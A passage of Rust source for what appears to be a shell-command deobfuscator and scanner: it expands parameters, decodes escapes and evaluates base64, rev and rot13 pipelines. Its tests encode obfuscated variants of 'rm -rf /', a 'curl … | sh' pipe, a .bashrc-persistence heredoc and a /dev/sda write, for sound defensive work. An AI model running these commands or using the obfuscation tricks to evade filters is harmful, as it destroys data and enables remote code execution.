                }
                _ => i += 1,
            }
        }
        let close = match close {
            Some(close) => close,
            None if self.mode == Mode::Script => body.len(),
            None => {
                w.push_bytes(b"$", false);
                self.pos += 1;
                return;
            }
        };
        let decoded = unescape_c(body.get(..close).unwrap_or_default(), false);
        w.push_bytes(&decoded, true);
        w.has = true;
        w.quoted = true;
        w.quote_segments = w.quote_segments.saturating_add(1);
        self.pos = (self.pos + 2 + close + 1).min(self.end);
    }

    fn braced_param(&mut self, w: &mut WordBuf, in_dq: bool, out: &mut Vec<Word>) {
        let body = self.rest().get(2..).unwrap_or_default();
        let mut depth = 0usize;
        let mut close = None;
        let mut i = 0;
        while i < body.len() {
            match body[i] {
                b'\\' => i += 1,
                b'{' => depth += 1,
                b'}' if depth == 0 => {
                    close = Some(i);
                    break;
                }
                b'}' => depth -= 1,
                _ => {}
            }
            i += 1;
        }
        let Some(close) = close else {
            w.push_bytes(b"$", in_dq);
            self.pos += 1;
            return;
        };
        let inner = lossy(body.get(..close).unwrap_or_default());
        self.pos = (self.pos + 2 + close + 1).min(self.end);
        let expansion = self.param(&inner);
        self.apply(w, expansion, in_dq, out);
    }

    fn lookup(&self, name: &str) -> Expansion {
        if name == "IFS" {
            return Expansion::Ifs;
        }
        if let Some(value) = self.st.vars.get(name) {
            return Expansion::Value(value.clone());
        }
        let known = match name {
            "HOME" => "~",
            "PWD" => ".",
            "PATH" => "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "SHELL" | "BASH" => "/bin/bash",
            _ => return Expansion::Unknown,
        };
        Expansion::Value(known.to_owned())
    }

    /// `${…}` with the operators used to hide words.
    fn param(&self, inner: &str) -> Expansion {
        if inner.len() > 1 && inner.starts_with('#') {
            return Expansion::Unknown; // length
        }
        if let Some(name) = inner.strip_prefix('!') {
            return match self.lookup(name) {
                Expansion::Value(target) if is_name(&target) => self.lookup(&target),
                _ => Expansion::Unknown,
            };
        }
        let name_len = if inner.starts_with(|c: char| c.is_ascii_digit()) {
            inner.bytes().take_while(u8::is_ascii_digit).count()
        } else if inner.starts_with(['@', '*', '#', '?', '-', '$', '!']) {
            1
        } else {
            inner
                .bytes()
                .take_while(|b| *b == b'_' || b.is_ascii_alphanumeric())
                .count()
        };
        let (name, op) = inner.split_at(name_len.min(inner.len()));
        if name == "IFS" {
            return Expansion::Ifs;
        }
        let base = if name.starts_with(|c: char| c.is_ascii_digit()) && name != "0" {
            Expansion::Value(String::new())
        } else if name == "0" {
            Expansion::Value("sh".to_owned())
        } else {
            self.lookup(name)
        };
        let set = |allow_empty: bool| match &base {
            Expansion::Value(v) => allow_empty || !v.is_empty(),
            _ => false,
        };
        let value = |e: &Expansion| match e {
            Expansion::Value(v) => Some(v.clone()),
            _ => None,
        };
        if op.is_empty() {
            return base;
        }
        for (prefix, colon) in [(":-", true), ("-", false), (":=", true), ("=", false)] {
            if let Some(word) = op.strip_prefix(prefix) {
                // An unknown variable is taken as unset: `${x:-rm}` is `rm`.
                return if set(!colon) {
                    base
                } else {
                    Expansion::Value(unquote(word))
                };
            }
        }
        for (prefix, colon) in [(":+", true), ("+", false)] {
            if let Some(word) = op.strip_prefix(prefix) {
                return match base {
                    Expansion::Unknown => Expansion::Unknown,
                    _ if set(!colon) => Expansion::Value(unquote(word)),
                    _ => Expansion::Value(String::new()),
                };
            }
        }
        if op.starts_with(":?") || op.starts_with('?') {
            return base;
        }
        let Some(v) = value(&base) else {
            return Expansion::Unknown;
        };
        if let Some(range) = op.strip_prefix(':') {
            return substring(&v, range).map_or(Expansion::Unknown, Expansion::Value);
        }
        if v.len() > MAX_PATTERN_VALUE {
            return Expansion::Unknown;
        }
        let stripped = if let Some(pat) = op.strip_prefix("##") {
            strip_prefix_glob(&v, &unquote(pat), true)
        } else if let Some(pat) = op.strip_prefix('#') {
            strip_prefix_glob(&v, &unquote(pat), false)
        } else if let Some(pat) = op.strip_prefix("%%") {
            strip_suffix_glob(&v, &unquote(pat), true)
        } else if let Some(pat) = op.strip_prefix('%') {
            strip_suffix_glob(&v, &unquote(pat), false)
        } else if let Some(rest) = op.strip_prefix("//") {
            replace_literal(&v, rest, true)
        } else if let Some(rest) = op.strip_prefix('/') {
            replace_literal(&v, rest, false)
        } else if op.starts_with("^^") || op.starts_with('^') {
            Some(v.to_uppercase())
        } else if op.starts_with(",,") || op.starts_with(',') {
            Some(v.to_lowercase())
        } else {
            None
        };
        stripped.map_or(Expansion::Unknown, Expansion::Value)
    }

    fn apply(&mut self, w: &mut WordBuf, expansion: Expansion, in_dq: bool, out: &mut Vec<Word>) {
        match expansion {
            Expansion::Value(value) => self.append_value(w, &value, in_dq, out),
            Expansion::Ifs if in_dq => w.push_bytes(b" ", true),
            Expansion::Ifs => self.split_here(w, out),
            Expansion::Unknown => {
                w.has = true;
                w.dynamic = true;
                w.name_ok = false;
            }
        }
    }

    fn append_value(&mut self, w: &mut WordBuf, value: &str, in_dq: bool, out: &mut Vec<Word>) {
        if !self.st.charge(value.len()) {
            w.has = true;
            w.dynamic = true;
            return;
        }
        if in_dq {
            w.push_bytes(value.as_bytes(), true);
            return;
        }
        let mut pieces = value.split([' ', '\t', '\n']).peekable();
        let mut first = true;
        while let Some(piece) = pieces.next() {
            if !first {
                self.split_here(w, out);
            }
            first = false;
            if !piece.is_empty() {
                w.push_bytes(piece.as_bytes(), true);
            }
            if pieces.peek().is_none() {
                break;
            }
        }
    }
}

fn is_name(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with(|c: char| c.is_ascii_digit())
        && text.bytes().all(|b| b == b'_' || b.is_ascii_alphanumeric())
}

fn utf8_len(first: u8) -> usize {
    match first {
        0xF0..=0xF7 => 4,
        0xE0..=0xEF => 3,
        0xC0..=0xDF => 2,
        _ => 1,
    }
}

/// Quote removal for the word of `${x:-word}`.
fn unquote(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {}
            '\\' => out.extend(chars.next()),
            _ => out.push(c),
        }
    }
    out
}

fn substring(value: &str, range: &str) -> Option<String> {
    let (offset, length) = match range.split_once(':') {
        Some((offset, length)) => (offset, Some(length)),
        None => (range, None),
    };
    let chars: Vec<char> = value.chars().collect();
    let len = chars.len() as i64;
    let offset: i64 = offset
        .trim()
        .trim_start_matches('(')
        .trim_end_matches(')')
        .parse()
        .ok()?;
    let start = if offset < 0 {
        (len + offset).max(0)
    } else {
        offset.min(len)
    };
    let end = match length {
        None => len,
        Some(length) => {
            let length: i64 = length.trim().parse().ok()?;
            if length < 0 {
                (len + length).max(start)
            } else {
                (start + length).min(len)
            }
        }
    };
    let (start, end) = (usize::try_from(start).ok()?, usize::try_from(end).ok()?);
    Some(chars.get(start..end.max(start))?.iter().collect())
}

/// Glob match of `*`, `?` and literals, for `${x#pat}`-style removal.
fn glob_match<T: PartialEq + Copy>(pattern: &[T], text: &[T], any: T, one: T) -> bool {
    let (mut p, mut t) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while t < text.len() {
        if p < pattern.len() && (pattern[p] == one || pattern[p] == text[t]) {
            p += 1;
            t += 1;
        } else if p < pattern.len() && pattern[p] == any {
            star = Some(p);
            mark = t;
            p += 1;
        } else if let Some(s) = star {
            p = s + 1;
            mark += 1;
            t = mark;
        } else {
            return false;
        }
    }
    pattern[p..].iter().all(|&c| c == any)
}

/// Whether ASCII `text` matches a shell glob of `*` and `?` (`[…]` classes match nothing).
pub(crate) fn glob_matches(pattern: &str, text: &str) -> bool {
    pattern.len() <= 64
        && text.len() <= 256
        && glob_match(pattern.as_bytes(), text.as_bytes(), b'*', b'?')
}

fn strip_prefix_glob(value: &str, pat: &str, longest: bool) -> Option<String> {
    let pattern: Vec<char> = pat.chars().collect();
    let chars: Vec<char> = value.chars().collect();
    let mut cuts: Box<dyn Iterator<Item = usize>> = if longest {
        Box::new((0..=chars.len()).rev())
    } else {
        Box::new(0..=chars.len())
    };
    let cut = cuts
        .find(|&k| glob_match(&pattern, &chars[..k], '*', '?'))
        .unwrap_or(0);
    Some(chars[cut..].iter().collect())
}

fn strip_suffix_glob(value: &str, pat: &str, longest: bool) -> Option<String> {
    let pattern: Vec<char> = pat.chars().collect();
    let chars: Vec<char> = value.chars().collect();
    let mut cuts: Box<dyn Iterator<Item = usize>> = if longest {
        Box::new(0..=chars.len())
    } else {
        Box::new((0..=chars.len()).rev())
    };
    let cut = cuts
        .find(|&k| glob_match(&pattern, &chars[k..], '*', '?'))
        .unwrap_or(chars.len());
    Some(chars[..cut].iter().collect())
}

fn replace_literal(value: &str, spec: &str, all: bool) -> Option<String> {
    let (pat, rep) = spec.split_once('/').unwrap_or((spec, ""));
    let pat = unquote(pat);
    if pat.is_empty() || pat.contains(['*', '?', '[']) {
        return None;
    }
    let rep = unquote(rep);
    Some(if all {
        value.replace(&pat, &rep)
    } else {
        value.replacen(&pat, &rep, 1)
    })
}

/// Decodes C-style escapes (`$'…'`, `printf`, `echo -e`). With `echo`, `\c` stops output and
/// octal takes a leading zero (`\0NNN`).
pub(crate) fn unescape_c(body: &[u8], echo: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(body.len());
    let mut i = 0;
    let hex = |b: u8| (b as char).to_digit(16);
    while i < body.len() {
        let c = body[i];
        if c != b'\\' || i + 1 >= body.len() {
            out.push(c);
            i += 1;
            continue;
        }
        let e = body[i + 1];
        i += 2;
        match e {
            b'a' => out.push(7),
            b'b' => out.push(8),
            b'e' | b'E' => out.push(0x1b),
            b'f' => out.push(0x0c),
            b'n' => out.push(b'\n'),
            b'r' => out.push(b'\r'),
            b't' => out.push(b'\t'),
            b'v' => out.push(0x0b),
            b'c' if echo => break,
            b'x' => {
                let mut value = 0u32;
                let mut n = 0;
                while n < 2 && i < body.len() {
                    let Some(d) = hex(body[i]) else { break };
                    value = value * 16 + d;
                    i += 1;
                    n += 1;
                }
                if n == 0 {
                    out.extend_from_slice(b"\\x");
                } else {
                    out.push(value as u8);
                }
            }
            b'u' | b'U' => {
                let max = if e == b'u' { 4 } else { 8 };
                let mut value = 0u32;
                let mut n = 0;
                while n < max && i < body.len() {
                    let Some(d) = hex(body[i]) else { break };
                    value = value.saturating_mul(16).saturating_add(d);
                    i += 1;
                    n += 1;
                }
                let c = char::from_u32(value).unwrap_or('\u{FFFD}');
                let mut buf = [0u8; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            }
            b'0'..=b'7' => {
                let mut value = u32::from(e - b'0');
                let max = if echo && e == b'0' { 3 } else { 2 };
                let mut n = 0;
                while n < max && i < body.len() && (b'0'..=b'7').contains(&body[i]) {
                    value = value * 8 + u32::from(body[i] - b'0');
                    i += 1;
                    n += 1;
                }
                out.push((value & 0xff) as u8);
            }
            _ => {
                if !echo && matches!(e, b'\\' | b'\'' | b'"' | b'?') {
                    out.push(e);
                } else if echo && e == b'\\' {
                    out.push(b'\\');
                } else {
                    out.push(b'\\');
                    out.push(e);
                }
            }
        }
    }
    out
}

/// The output of a pipeline whose result is knowable without running anything: `echo`,
/// `printf`, `which`, then filters `base64 -d`, `xxd -r -p`, `rev`, `tr -d`.
pub(crate) fn evaluate(stages: &[&Command]) -> Option<String> {
    let (first, rest) = stages.split_first()?;
    if stages.len() > 6 || rest.iter().any(|c| c.pipeline != first.pipeline) {
        return None;
    }
    // `rev <<< '/ fr- mr'`: a filter fed by a here-string starts the pipeline.
    let mut data = match herestring(first) {
        Some(input) => filter(first, format!("{input}\n").as_bytes())?,
        None => produce(first)?,
    };
    for stage in rest {
        data = filter(stage, &data)?;
        if data.len() > MAX_VALUE {
            return None;
        }
    }
    Some(String::from_utf8_lossy(&data).into_owned())
}

fn herestring(command: &Command) -> Option<&str> {
    command
        .redirects
        .iter()
        .find(|r| r.op == RedirOp::HereString && !r.target.dynamic)
        .map(|r| r.target.text.as_str())
}

fn literal_args(command: &Command) -> Option<Vec<&str>> {
    let other_redirects = command
        .redirects
        .iter()
        .any(|r| r.op != RedirOp::HereString);
    if command.argv.iter().any(|w| w.dynamic) || other_redirects {
        return None;
    }
    Some(command.argv.iter().map(|w| w.text.as_str()).collect())
}

fn produce(command: &Command) -> Option<Vec<u8>> {
    let args = literal_args(command)?;
    let (name, args) = args.split_first()?;
    let name = name.rsplit('/').next().unwrap_or(name);
    match name {
        "echo" => {
            let mut escapes = false;
            let mut newline = true;
            let mut k = 0;
            while let Some(flag) = args.get(k).filter(|a| {
                a.len() > 1 && a.starts_with('-') && a[1..].bytes().all(|b| b"neE".contains(&b))
            }) {
                escapes |= flag.contains('e');
                newline &= !flag.contains('n');
                k += 1;
            }
            let joined = args.get(k..).unwrap_or_default().join(" ");
            let mut out = if escapes {
                unescape_c(joined.as_bytes(), true)
            } else {
                joined.into_bytes()
            };
            if newline {
                out.push(b'\n');
            }
            Some(out)
        }
        "printf" => {
            let (format, values) = args.split_first()?;
            Some(printf(format, values))
        }
        "which" | "type" => args.last().map(|a| a.as_bytes().to_vec()),
        "command" if args.first() == Some(&"-v") => args.get(1).map(|a| a.as_bytes().to_vec()),
        _ => None,
    }
}

fn printf(format: &str, values: &[&str]) -> Vec<u8> {
    let format = unescape_c(format.as_bytes(), false);
    let mut out = Vec::new();
    let mut values = values.iter();
    let mut i = 0;
    while i < format.len() {
        if format[i] == b'%' {
            match format.get(i + 1) {
                Some(b'%') => out.push(b'%'),
                Some(b's' | b'd' | b'i' | b'c' | b'b' | b'x' | b'o') => {
                    let spec = format[i + 1];
                    let value = values.next().copied().unwrap_or_default();
                    if spec == b'b' {
                        out.extend(unescape_c(value.as_bytes(), true));
                    } else if spec == b'c' {
                        out.extend(value.bytes().take(1));
                    } else {
                        out.extend_from_slice(value.as_bytes());
                    }
                }
                _ => out.push(b'%'),
            }
            i += 2;
        } else {
            out.push(format[i]);
            i += 1;
        }
        if out.len() > MAX_VALUE {
            break;
        }
    }
    out
}

fn filter(command: &Command, input: &[u8]) -> Option<Vec<u8>> {
    let args = literal_args(command)?;
    let (name, args) = args.split_first()?;
    let name = name.rsplit('/').next().unwrap_or(name);
    match name {
        "base64"
            if args
                .iter()
                .any(|a| matches!(*a, "-d" | "--decode" | "-D" | "-di")) =>
        {
            base64_decode(input)
        }
        "xxd" if args.iter().any(|a| a.starts_with("-r")) => hex_decode(input),
        "rev" => Some(
            String::from_utf8_lossy(input)
                .lines()
                .map(|line| line.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n")
                .into_bytes(),
        ),
        "tr" if args.first() == Some(&"-d") => {
            let set = tr_set(args.get(1)?)?;
            Some(input.iter().copied().filter(|b| !set.contains(b)).collect())
        }
        "tr" if args.len() == 2 => {
            // `tr 'a-z' 'n-za-m'` (rot13) and other byte translations.
            let from = tr_set(args[0])?;
            let to = tr_set(args[1])?;
            let last = *to.last()?;
            Some(
                input
                    .iter()
                    .map(|b| match from.iter().position(|f| f == b) {
                        Some(i) => to.get(i).copied().unwrap_or(last),
                        None => *b,
                    })
                    .collect(),
            )
        }
        "cat" if args.is_empty() => Some(input.to_vec()),
        _ => None,
    }
}

/// The bytes of a `tr` set with `a-z` ranges expanded; `None` for classes (`[:alpha:]`).
fn tr_set(spec: &str) -> Option<Vec<u8>> {
    let bytes = spec.as_bytes();
    if !spec.is_ascii() || spec.contains("[:") || bytes.len() > 256 {
        return None;
    }
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if i + 2 < bytes.len() && bytes[i + 1] == b'-' && bytes[i] <= bytes[i + 2] {
            out.extend(bytes[i]..=bytes[i + 2]);
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    Some(out)
}

/// Standard or URL-safe base64, ignoring whitespace; `None` on anything else.
pub(crate) fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
    crate::codec::decode_base64_lenient(input, true)
}

fn hex_decode(input: &[u8]) -> Option<Vec<u8>> {
    let digits: Vec<u32> = input
        .iter()
        .filter(|b| !b.is_ascii_whitespace())
        .map(|&b| (b as char).to_digit(16))
        .collect::<Option<_>>()?;
    Some(
        digits
            .chunks(2)
            .filter(|pair| pair.len() == 2)
            .map(|pair| (pair[0] * 16 + pair[1]) as u8)
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(src: &str) -> Vec<Vec<String>> {
        let mut st = State::new(1 << 20);
        st.lex(src, Mode::Script, 0, None);
        st.commands
            .iter()
            .map(|c| c.argv.iter().map(|w| w.text.clone()).collect())
            .collect()
    }

    #[test]
    fn removes_quotes_and_escapes() {
        assert_eq!(argvs(r#"r'm' "-rf" \/"#), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(argvs(r"r\m -r\f /"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(argvs(r"$'\x72\x6d' -rf /"), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn splits_on_ifs_and_expands_assigned_variables() {
        assert_eq!(argvs("rm${IFS}-rf${IFS}/"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(argvs("rm$IFS$9-rf$IFS/"), vec![vec!["rm", "-rf", "/"]]);
        let lexed = argvs("a=rm; x=/; $a -rf $x");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
        let lexed = argvs("c='rm -rf'; $c ${PATH:0:1}");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
    }

    #[test]
    fn evaluates_knowable_substitutions() {
        let lexed = argvs("$(echo rm) -rf /");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
        let lexed = argvs(r"`printf '\x72\x6d'` -rf /");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
        let lexed = argvs("$(echo cm0gLXJmIC8= | base64 -d)");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
    }

    #[test]
    fn evaluates_reversal_and_rot13_filters() {
        let lexed = argvs("$(rev <<< '/ fr- mr')");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
        let lexed = argvs("$(echo 'ez -es /' | tr 'a-z' 'n-za-m')");
        assert_eq!(lexed.last().unwrap(), &vec!["rm", "-rf", "/"]);
    }

    #[test]
    fn brace_expansion_of_a_whole_word() {
        assert_eq!(argvs("{rm,-rf,/}"), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn nested_commands_point_at_their_top_level_command() {
        let mut st = State::new(1 << 20);
        st.lex(
            "echo ok; x=$(curl -s http://e.x | sh) && ls",
            Mode::Script,
            0,
            None,
        );
        let curl = st
            .commands
            .iter()
            .find(|c| c.argv.first().is_some_and(|w| w.text == "curl"))
            .unwrap();
        let top = &st.commands[curl.top];
        assert!(top.assigns.iter().any(|(n, _)| n == "x"));
        assert_eq!(top.depth, 0);
    }

    #[test]
    fn reads_redirections_and_heredocs() {
        let mut st = State::new(1 << 20);
        st.lex(
            "cat <<'EOF' >> ~/.bashrc\ncurl x | sh\nEOF\nls 2>&1 >/dev/sda",
            Mode::Script,
            0,
            None,
        );
        let cat = &st.commands[0];
        assert_eq!(cat.redirects[0].op, RedirOp::HereDoc);
        assert_eq!(cat.redirects[0].body.as_deref(), Some("curl x | sh\n"));
        assert_eq!(cat.redirects[1].target.text, "~/.bashrc");
        let ls = st.commands.last().unwrap();
        assert_eq!(ls.argv[0].text, "ls");
        assert!(
            ls.redirects
                .iter()
                .any(|r| r.target.text == "/dev/sda" && r.writes_file())
        );
    }

    #[test]
    fn prose_apostrophes_are_not_quotes() {
        let mut st = State::new(1 << 20);
        st.lex("don't run `rm -rf /` please", Mode::Prose, 0, None);
        assert!(
            st.commands
                .iter()
                .any(|c| c.argv.first().is_some_and(|w| w.text == "rm") && c.depth == 1)
        );
    }

    #[test]
    fn hostile_nesting_is_bounded() {
        let text = "$(".repeat(100_000);
        let mut st = State::new(1 << 20);
        st.lex(&text, Mode::Script, 0, None);
        let text = "`".repeat(100_000) + &"\\`".repeat(1000);
        st.lex(&text, Mode::Script, 0, None);
        let text = "a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; ".to_owned()
            + &"b=$a$a$a$a$a$a$a$a; a=$b; ".repeat(200);
        st.lex(&text, Mode::Script, 0, None);
        assert!(st.vars.values().all(|v| v.len() <= MAX_VALUE));
    }
}
